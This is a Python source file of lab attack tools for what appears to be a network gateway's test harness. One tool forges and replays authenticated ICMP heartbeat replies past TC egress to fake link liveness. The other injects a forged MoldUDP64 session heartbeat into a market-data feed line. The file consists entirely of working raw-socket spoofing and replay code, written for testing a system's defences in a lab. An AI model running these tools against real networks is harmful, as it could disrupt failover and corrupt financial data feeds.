"""Lab attack tools: an attacker on carrier A's wire, toward the gateway.

Run inside a carrier namespace as `python -m lab.attack SUBCOMMAND ...`,
with traffic.py's conventions: {"ready": true} once its sockets are up, then
exactly one JSON result line at exit (also on SIGTERM/SIGINT); exit 0, or 1
when the attack could not be carried out (the result says how), or 2 when the
tool could not start. Times are CLOCK_MONOTONIC ns.

The attacker sits on the carrier's gw-facing veth (carA's `gwA`), the veth the
fault injector (lab/ebpf/fault.c) is attached to. It reads the wire with an
AF_PACKET socket: a tap sees an outgoing frame only after the veth's TC egress
hook, so it sees exactly what leaves towards the gateway. It sends whole
Ethernet frames with a second AF_PACKET socket and PACKET_QDISC_BYPASS: they
go straight to the driver, past TC egress, so a black hole there does not stop
them. That models an attacker on the carrier's wire beyond the failure: the
link is dead for the gateway's traffic, yet frames still arrive on it.

  spoof-heartbeats  from a signal on, a steady rate of heartbeat replies as
                    genuine ones look (addresses, MACs, our ICMP identifier,
                    a probe of link A with tx_ns = the shared CLOCK_MONOTONIC
                    now), half forged and half replays of genuine replies
                    captured on the wire in the second before
  forge-session     one MoldUDP64 packet of another session on line A, with
                    line A's headers, just ahead of the sequence it saw last

The frame builders are pure, so tests can check the bytes.
"""
from __future__ import annotations

import argparse
import collections
import ctypes
import os
import random
import select
import signal
import socket
import struct
import sys
import time

from appliance import layout
from appliance.edge.dataplane import PROBE_IDENT
from lab import feedproto
from lab.traffic import SetupError, Stop, emit, positive, run_tool

ETH_P_ALL, ETH_P_IP = 0x0003, 0x0800
SOL_PACKET = 263
PACKET_QDISC_BYPASS = 20     # linux/if_packet.h
PACKET_OUTGOING = 4          # sll_pkttype of a frame this host sends
SO_ATTACH_FILTER = 26
PR_SET_TIMERSLACK = 29
IPPROTO_ICMP, IPPROTO_UDP = 1, 17
ICMP_ECHOREPLY = 0

ETH = struct.Struct("!6s6sH")
IPV4 = struct.Struct("!BBHHHBBH4s4s")
ICMP_ECHO = struct.Struct("!BBHHH")    # type, code, checksum, identifier, sequence
UDP = struct.Struct("!HHHH")
ETH_LEN, IP_LEN = ETH.size, IPV4.size

# Forged replies cycle through every combination of the attacker's guesses.
TTLS = (64, 255)
SEQ_MODES = ("increasing", "random")
MAC_MODES = ("random", "zero")
VARIANTS = [(ttl, seq_mode, mac_mode) for mac_mode in MAC_MODES for seq_mode in SEQ_MODES for ttl in TTLS]
# Probe fields the attacker fills with what it knows; every other field except
# padding is the authenticator it cannot know (random or zero bytes).
KNOWN_FIELDS = {"magic", "version", "link", "seq", "tx_ns", "key_id"}

POLL_S = 0.05
MAX_BURST = 100       # frames sent at once when the sender fell behind its schedule
CAPTURE_KEEP = 20_000  # genuine replies kept for replay, at most


class Go:
    """Set by SIGUSR1: the moment to start the attack."""
    requested = False


def request_go(_signum, _frame) -> None:
    Go.requested = True


# ---------------------------------------------------------------- frames (pure)

def inet_checksum(data: bytes) -> int:
    """The internet checksum (RFC 1071) of data."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4_header(src: bytes, dst: bytes, proto: int, payload_len: int, ttl: int, ip_id: int, tos: int = 0,
                flags: int = 0) -> bytes:
    header = IPV4.pack(0x45, tos, IP_LEN + payload_len, ip_id, flags, ttl, proto, 0, src, dst)
    return header[:10] + struct.pack("!H", inet_checksum(header)) + header[12:]


def probe_payload(link: int, seq: int, tx_ns: int, key_id: int, mac_mode: str, rng: random.Random) -> bytes:
    """A probe of appliance.layout's Probe struct with the attacker's best
    guesses: the fields it can know or observe set, the authenticator (any
    other field but padding) random or zero."""
    probe = layout.Probe(magic=layout.C["TP_PROBE_MAGIC"], version=layout.C["TP_PROBE_VERSION"], link=link,
                         seq=seq & (2**64 - 1), tx_ns=tx_ns)
    if "key_id" in dict(layout.Probe._fields_):
        probe.key_id = key_id
    raw = bytearray(bytes(probe))
    for name, ctype in layout.Probe._fields_:
        if name in KNOWN_FIELDS or name.startswith("_"):
            continue
        field = getattr(layout.Probe, name)
        raw[field.offset:field.offset + field.size] = (
            rng.randbytes(field.size) if mac_mode == "random" else bytes(field.size))
    return bytes(raw)


def forged_reply(dst_mac: bytes, src_mac: bytes, src: bytes, dst: bytes, ident: int, probe: bytes,
                 icmp_seq: int, ttl: int, ip_id: int) -> bytes:
    """An ICMP echo reply frame carrying `probe`, valid IP and ICMP checksums."""
    icmp = ICMP_ECHO.pack(ICMP_ECHOREPLY, 0, 0, ident, icmp_seq & 0xFFFF) + probe
    icmp = icmp[:2] + struct.pack("!H", inet_checksum(icmp)) + icmp[4:]
    return ETH.pack(dst_mac, src_mac, ETH_P_IP) + ipv4_header(src, dst, IPPROTO_ICMP, len(icmp), ttl, ip_id) + icmp


def parse_reply(frame: bytes, ident: int, src: bytes, dst: bytes) -> layout.Probe | None:
    """The probe in a heartbeat reply from src to dst with our identifier, or None."""
    probe_end = ETH_LEN + IP_LEN + ICMP_ECHO.size + ctypes.sizeof(layout.Probe)
    if len(frame) < probe_end or ETH.unpack_from(frame)[2] != ETH_P_IP:
        return None
    ver_ihl, _tos, _len, _id, _frag, _ttl, proto, _csum, saddr, daddr = IPV4.unpack_from(frame, ETH_LEN)
    if ver_ihl != 0x45 or proto != IPPROTO_ICMP or saddr != src or daddr != dst:
        return None
    icmp_type, code, _csum, icmp_ident, _seq = ICMP_ECHO.unpack_from(frame, ETH_LEN + IP_LEN)
    if icmp_type != ICMP_ECHOREPLY or code != 0 or icmp_ident != ident:
        return None
    probe = layout.Probe.from_buffer_copy(frame, ETH_LEN + IP_LEN + ICMP_ECHO.size)
    return probe if probe.magic == layout.C["TP_PROBE_MAGIC"] else None


def parse_feed_frame(frame: bytes, src: bytes, port: int) -> feedproto.MoldPacket | None:
    """The MoldUDP64 packet in a line's frame from src to UDP port `port`, or None."""
    if len(frame) < ETH_LEN + IP_LEN + UDP.size or ETH.unpack_from(frame)[2] != ETH_P_IP:
        return None
    ver_ihl, _tos, _len, _id, frag, _ttl, proto, _csum, saddr, _daddr = IPV4.unpack_from(frame, ETH_LEN)
    if ver_ihl != 0x45 or proto != IPPROTO_UDP or saddr != src or frag & 0x3FFF:
        return None
    _sport, dport, length, _csum = UDP.unpack_from(frame, ETH_LEN + IP_LEN)
    start = ETH_LEN + IP_LEN + UDP.size
    if dport != port or length < UDP.size or start + length - UDP.size > len(frame):
        return None
    try:
        return feedproto.parse_mold(frame[start:start + length - UDP.size])
    except ValueError:
        return None


def forged_feed_frame(template: bytes, payload: bytes) -> bytes:
    """`payload` in a frame with the template's (a captured line frame's)
    Ethernet, IP and UDP headers: same MACs, addresses, ports, TTL, TOS and DF;
    lengths, IP id and both checksums made valid."""
    dst_mac, src_mac, _ = ETH.unpack_from(template)
    _v, tos, _len, ip_id, frag, ttl, _p, _c, src, dst = IPV4.unpack_from(template, ETH_LEN)
    sport, dport, _length, _csum = UDP.unpack_from(template, ETH_LEN + IP_LEN)
    length = UDP.size + len(payload)
    pseudo = src + dst + struct.pack("!BBH", 0, IPPROTO_UDP, length)
    csum = inet_checksum(pseudo + UDP.pack(sport, dport, length, 0) + payload) or 0xFFFF
    return (ETH.pack(dst_mac, src_mac, ETH_P_IP)
            + ipv4_header(src, dst, IPPROTO_UDP, length, ttl, (ip_id + 1) & 0xFFFF, tos, frag & 0x4000)
            + UDP.pack(sport, dport, length, csum) + payload)


# ---------------------------------------------------------------- sockets

def capture_socket(dev: str, bpf_filter: list[tuple[int, int, int, int]] | None = None) -> socket.socket:
    """A non-blocking tap on dev: every frame in and out, or only those the
    classic BPF filter accepts."""
    try:
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        if bpf_filter:
            attach_filter(sock, bpf_filter)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        sock.bind((dev, ETH_P_ALL))
    except OSError as exc:
        raise SetupError(f"cannot capture on {dev}: {exc.strerror or exc}") from exc
    sock.setblocking(False)
    return sock


def send_socket(dev: str) -> tuple[socket.socket, bytes]:
    """An AF_PACKET socket that sends whole frames on dev past its qdisc and
    TC egress (PACKET_QDISC_BYPASS) and receives nothing; and dev's MAC."""
    try:
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        sock.bind((dev, 0))
    except OSError as exc:
        raise SetupError(f"cannot send on {dev}: {exc.strerror or exc}") from exc
    return sock, sock.getsockname()[4]


def set_realtime() -> bool:
    """SCHED_FIFO at the lowest priority: an attacker on the wire is never
    descheduled for the dead interval, and the schedule (mostly sleep) keeps
    it at a small share of a core. False where the system refuses."""
    try:
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    except OSError:
        return False
    return True


def attach_filter(sock: socket.socket, program: list[tuple[int, int, int, int]]) -> None:
    """SO_ATTACH_FILTER with a classic BPF program of (code, jt, jf, k)."""
    insns = b"".join(struct.pack("=HBBI", *insn) for insn in program)
    buf = ctypes.create_string_buffer(insns)
    fprog = struct.pack("=HxxxxxxQ", len(program), ctypes.addressof(buf))
    sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)


def udp_filter(src: bytes, port: int) -> list[tuple[int, int, int, int]]:
    """cBPF: unfragmented IPv4 UDP from src to destination port `port`
    (a jump's offset counts from the next instruction; the last is `drop`)."""
    ld_h, ld_b, ld_w, ldx_msh, ld_h_ind = 0x28, 0x30, 0x20, 0xB1, 0x48
    jeq, jset, ret = 0x15, 0x45, 0x06
    return [
        (ld_h, 0, 0, 12), (jeq, 0, 10, ETH_P_IP),
        (ld_b, 0, 0, ETH_LEN + 9), (jeq, 0, 8, IPPROTO_UDP),
        (ld_w, 0, 0, ETH_LEN + 12), (jeq, 0, 6, int.from_bytes(src, "big")),
        (ld_h, 0, 0, ETH_LEN + 6), (jset, 4, 0, 0x1FFF),
        (ldx_msh, 0, 0, ETH_LEN), (ld_h_ind, 0, 0, ETH_LEN + 2),
        (jeq, 0, 1, port),
        (ret, 0, 0, 0xFFFF), (ret, 0, 0, 0),
    ]


def drain(sock: socket.socket, limit: int = 10_000):
    """(frame, pkttype) of every frame waiting on a capture socket."""
    out = []
    for _ in range(limit):
        try:
            frame, addr = sock.recvfrom(2048)
        except BlockingIOError:
            break
        out.append((frame, addr[2]))
    return out


def wait_readable(sock: socket.socket, timeout_s: float) -> None:
    select.select([sock], [], [], max(0.0, timeout_s))


def _addr(text: str) -> bytes:
    try:
        return socket.inet_aton(text)
    except OSError:
        raise SetupError(f"not an IPv4 address: {text!r}") from None


def _mac(text: str) -> bytes:
    try:
        raw = bytes.fromhex(text.replace(":", ""))
    except ValueError:
        raw = b""
    if len(raw) != 6:
        raise SetupError(f"not a MAC address: {text!r}")
    return raw


# ---------------------------------------------------------------- spoof-heartbeats

class ReplyForger:
    """Builds the attack's frames in order: forged and replayed alternate
    (only forged when nothing was captured); forged ones cycle VARIANTS."""

    def __init__(self, args: argparse.Namespace, src_mac: bytes, captured: list[bytes],
                 last_genuine: layout.Probe | None, rng: random.Random):
        self.dst_mac, self.src_mac = _mac(args.dst_mac), src_mac
        self.src, self.dst = _addr(args.src), _addr(args.dst)
        self.ident, self.link = args.ident, args.link_id
        self.replays = captured
        self.rng = rng
        # Just above the highest sequence seen: what an anti-replay window would take next.
        self.next_seq = last_genuine.seq + 1 if last_genuine else time.monotonic_ns() // 1000
        self.key_id = getattr(last_genuine, "key_id", 0) if last_genuine else 0
        self.counts = {"forged": 0, "replayed": 0}
        self.variants = collections.Counter()
        self._replay_at = 0

    def next(self) -> tuple[str, bytes]:
        sent = self.counts["forged"] + self.counts["replayed"]
        if self.replays and sent % 2:
            frame = self.replays[self._replay_at % len(self.replays)]
            self._replay_at += 1
            return "replayed", frame
        ttl, seq_mode, mac_mode = VARIANTS[self.counts["forged"] % len(VARIANTS)]
        if seq_mode == "increasing":
            seq, self.next_seq = self.next_seq, self.next_seq + 1
        else:
            seq = self.rng.getrandbits(64)
        self.variants.update((f"ttl{ttl}", f"seq_{seq_mode}", f"mac_{mac_mode}"))
        probe = probe_payload(self.link, seq, time.monotonic_ns(), self.key_id, mac_mode, self.rng)
        return "forged", forged_reply(self.dst_mac, self.src_mac, self.src, self.dst, self.ident, probe,
                                      seq, ttl, self.rng.getrandbits(16))


def spoof_heartbeats(args: argparse.Namespace) -> int:
    rng = random.Random(args.seed)
    src, dst = _addr(args.src), _addr(args.dst)
    _mac(args.dst_mac)
    tap = capture_socket(args.dev)
    tx, src_mac = send_socket(args.dev)
    signal.signal(signal.SIGUSR1, request_go)
    ctypes.CDLL(None).prctl(PR_SET_TIMERSLACK, 1, 0, 0, 0)
    realtime = args.realtime and set_realtime()
    ready_ns = time.monotonic_ns()
    deadline_ns = ready_ns + int(args.timeout * 1e9)
    go_ns = ready_ns + int(args.start_after * 1e9) if args.start_after is not None else None
    capture_ns = int(args.capture_s * 1e9)
    emit({"ready": True})

    def genuine(frames) -> list[bytes]:
        return [f for f, pkttype in frames if pkttype == PACKET_OUTGOING and parse_reply(f, args.ident, src, dst)]

    # Phase 1: watch the wire, keeping the genuine replies of the last capture_s.
    ring: collections.deque[tuple[int, bytes]] = collections.deque(maxlen=CAPTURE_KEEP)
    stopped = None
    while not Go.requested and (go_ns is None or time.monotonic_ns() < go_ns):
        if Stop.requested or time.monotonic_ns() >= deadline_ns:
            stopped = "signal" if Stop.requested else "timeout"
            break
        wait_readable(tap, POLL_S)
        now = time.monotonic_ns()
        ring.extend((now, f) for f in genuine(drain(tap)))
        while ring and ring[0][0] < now - capture_ns:
            ring.popleft()
    start_ns = time.monotonic_ns()
    captured = [f for t, f in ring if t >= start_ns - capture_ns]
    last = parse_reply(captured[-1], args.ident, src, dst) if captured else None
    forger = ReplyForger(args, src_mac, captured, last, rng)
    capture_window_s = min(args.capture_s, (start_ns - ready_ns) / 1e9)

    # Phase 2: the attack, on an absolute schedule, until stopped or a bound is hit.
    period_ns = 1e9 / args.rate
    max_end_ns = min(start_ns + int(args.max_s * 1e9), deadline_ns)
    errors = genuine_during = behind_max = 0
    while stopped is None:
        now = time.monotonic_ns()
        sent = forger.counts["forged"] + forger.counts["replayed"]
        if Stop.requested:
            stopped = "signal"
        elif sent >= args.count:
            stopped = "count"
        elif now >= max_end_ns:
            stopped = "timeout" if now >= deadline_ns else "max_s"
        if stopped:
            break
        due = min(int((now - start_ns) / period_ns) + 1, args.count) - sent
        behind_max = max(behind_max, due)
        for _ in range(min(due, MAX_BURST)):
            kind, frame = forger.next()
            forger.counts[kind] += 1
            try:
                tx.send(frame)
            except OSError:
                errors += 1
        genuine_during += len(genuine(drain(tap)))
        next_due_ns = start_ns + int((forger.counts["forged"] + forger.counts["replayed"]) * period_ns)
        time.sleep(max(0.0, min(next_due_ns - time.monotonic_ns(), POLL_S * 1e9)) / 1e9)
    end_ns = time.monotonic_ns()
    tx.close()
    tap.close()

    total = forger.counts["forged"] + forger.counts["replayed"]
    emit({
        "sent": total, **forger.counts, "send_errors": errors,
        "variants": dict(sorted(forger.variants.items())),
        "captured": len(captured), "capture_window_s": round(capture_window_s, 3),
        "genuine_seen_during_attack": genuine_during,
        "attack_start_ns": start_ns if total else None, "attack_end_ns": end_ns if total else None,
        "rate": round(total * 1e9 / (end_ns - start_ns)) if total and end_ns > start_ns else None,
        "max_behind": behind_max, "realtime": realtime, "stopped": stopped,
    })
    return 0 if total else 1


# ---------------------------------------------------------------- forge-session

def forge_session(args: argparse.Namespace) -> int:
    src = _addr(args.src)
    feedproto.mold_session(args.session)  # a valid name, or a SetupError below
    tap = capture_socket(args.dev, udp_filter(src, args.port))
    tx, _src_mac = send_socket(args.dev)
    deadline_ns = time.monotonic_ns() + int(args.timeout * 1e9)
    emit({"ready": True})

    observed = 0
    template = seen_session = None
    next_seq = 0
    stopped = None
    while next_seq < args.after_seq:
        if Stop.requested or time.monotonic_ns() >= deadline_ns:
            stopped = "signal" if Stop.requested else "timeout"
            break
        wait_readable(tap, POLL_S)
        for frame, pkttype in drain(tap):
            packet = parse_feed_frame(frame, src, args.port)
            if pkttype != PACKET_OUTGOING or packet is None:
                continue
            observed += 1
            template, seen_session = frame, packet.session
            next_seq = max(next_seq, packet.seq + (packet.count if packet.kind == "data" else 0))
    result = {"forged_sent": 0, "session": args.session, "observed_packets": observed,
              "observed_session": seen_session, "observed_next_seq": next_seq or None}
    if stopped is None:
        # Just ahead of the sequence the line has reached: a heartbeat announcing it.
        seq = next_seq + args.ahead
        frame = forged_feed_frame(template, feedproto.mold_heartbeat(args.session, seq))
        inject_ns = time.monotonic_ns()
        try:
            tx.send(frame)
            result.update(forged_sent=1, seq=seq, frame_bytes=len(frame), inject_ns=inject_ns)
        except OSError as exc:
            result["error"] = f"send: {exc.strerror or exc}"
    else:
        result["stopped"] = stopped
    tx.close()
    tap.close()
    emit(result)
    return 0 if result["forged_sent"] else 1


# ---------------------------------------------------------------- CLI

def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m lab.attack",
        description="Lab attack tools, run on a carrier's gw-facing veth. Each prints {\"ready\": true} once "
                    "its sockets are up and one JSON result line on exit. Times are CLOCK_MONOTONIC ns.")
    sub = parser.add_subparsers(dest="command", required=True, metavar="SUBCOMMAND")

    p = sub.add_parser("spoof-heartbeats", help="forged and replayed heartbeat replies toward the gateway",
                       description="Capture genuine heartbeat replies leaving --dev; from SIGUSR1 (or "
                                   "--start-after) on, send --rate frames/s straight to the driver (past TC "
                                   "egress): alternately a forged reply (a Probe of --link-id, tx_ns = now, "
                                   "seq just above the last genuine one or random, authenticator random or "
                                   "zero, TTL 64 or 255, valid checksums) and a verbatim replay of a reply "
                                   "captured in the --capture-s before. Stops on SIGTERM, after --count "
                                   "frames or --max-s of attack, or at --timeout.")
    p.add_argument("--dev", required=True, help="the carrier's gw-facing veth")
    p.add_argument("--src", required=True, metavar="ADDR", help="the link's heartbeat target (replies' source)")
    p.add_argument("--dst", required=True, metavar="ADDR", help="the gateway's address on the link")
    p.add_argument("--dst-mac", required=True, metavar="MAC", help="the gateway's MAC on the link")
    p.add_argument("--link-id", required=True, type=int, help="the link's index in the daemon config")
    p.add_argument("--ident", type=int, default=PROBE_IDENT, help=f"ICMP identifier (default {PROBE_IDENT:#x})")
    p.add_argument("--rate", type=positive(float), default=5000, metavar="PER_S", help="frames/s (default 5000)")
    p.add_argument("--capture-s", type=positive(float), default=1.0, metavar="S",
                   help="replay what was captured in this long before the attack (default 1)")
    p.add_argument("--start-after", type=float, metavar="S", help="start this long after ready (default: on SIGUSR1)")
    p.add_argument("--max-s", required=True, type=positive(float), metavar="S", help="longest attack")
    p.add_argument("--count", required=True, type=positive(int), metavar="N", help="most frames to send")
    p.add_argument("--timeout", required=True, type=positive(float), metavar="S", help="stop this long after ready")
    p.add_argument("--realtime", action="store_true",
                   help="send under SCHED_FIFO (priority 1), so that scheduling delays leave no gap in the attack")
    p.add_argument("--seed", type=int, help="for the random guesses (default: fresh)")
    p.set_defaults(run=spoof_heartbeats)

    p = sub.add_parser("forge-session", help="one MoldUDP64 packet of another session on a line",
                       description="Watch a line's MoldUDP64 packets leaving --dev; once the line has carried "
                                   "sequence --after-seq, send one heartbeat (62-byte frame) of --session "
                                   "announcing the line's next sequence + --ahead, with the line's own Ethernet, "
                                   "IP and UDP headers and valid checksums, past TC egress.")
    p.add_argument("--dev", required=True, help="the carrier's gw-facing veth")
    p.add_argument("--src", required=True, metavar="ADDR", help="the line's source address")
    p.add_argument("--port", required=True, type=int, help="the feed's UDP destination port")
    p.add_argument("--session", default="FORGED0001", help="the forged session name (default FORGED0001)")
    p.add_argument("--after-seq", required=True, type=positive(int), metavar="SEQ")
    p.add_argument("--ahead", type=int, default=0, metavar="N",
                   help="announce this many sequences past the line's next one (default 0)")
    p.add_argument("--timeout", required=True, type=positive(float), metavar="S", help="give up after this long")
    p.set_defaults(run=forge_session)
    return parser


def main(argv: list[str] | None = None) -> int:
    return run_tool(build_parser(), argv)


if __name__ == "__main__":
    sys.exit(main())
